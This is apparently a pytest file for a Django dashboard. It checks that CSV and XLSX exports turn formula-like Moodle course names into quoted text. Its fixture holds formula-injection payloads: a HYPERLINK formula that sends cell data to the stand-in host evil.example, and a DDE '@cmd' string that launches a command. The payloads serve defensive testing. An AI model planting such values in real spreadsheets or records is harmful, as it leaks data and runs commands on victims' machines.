"""Exports: a Moodle course named like a formula reaches the spreadsheet as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from transition.models import Course

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def formula_course(people):
    Course.objects.filter(pk=people.course.pk).update(shortname="+SUM(1,2)", fullname=HYPERLINK)
    Course.objects.filter(pk=people.other_course.pk).update(fullname="@cmd|' /C calc'!A0")
    return people


def test_the_csv_export_writes_formulas_as_text(client, formula_course):
    client.force_login(formula_course.admin)
    response = client.get("/dashboard/export.csv", {"campaign": formula_course.campaign.pk})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'+SUM(1,2)" in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_export_stores_no_formula(client, formula_course):
    client.force_login(formula_course.admin)
    response = client.get("/dashboard/export.xlsx", {"campaign": formula_course.campaign.pk})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + HYPERLINK in {cell.value for cell in cells}
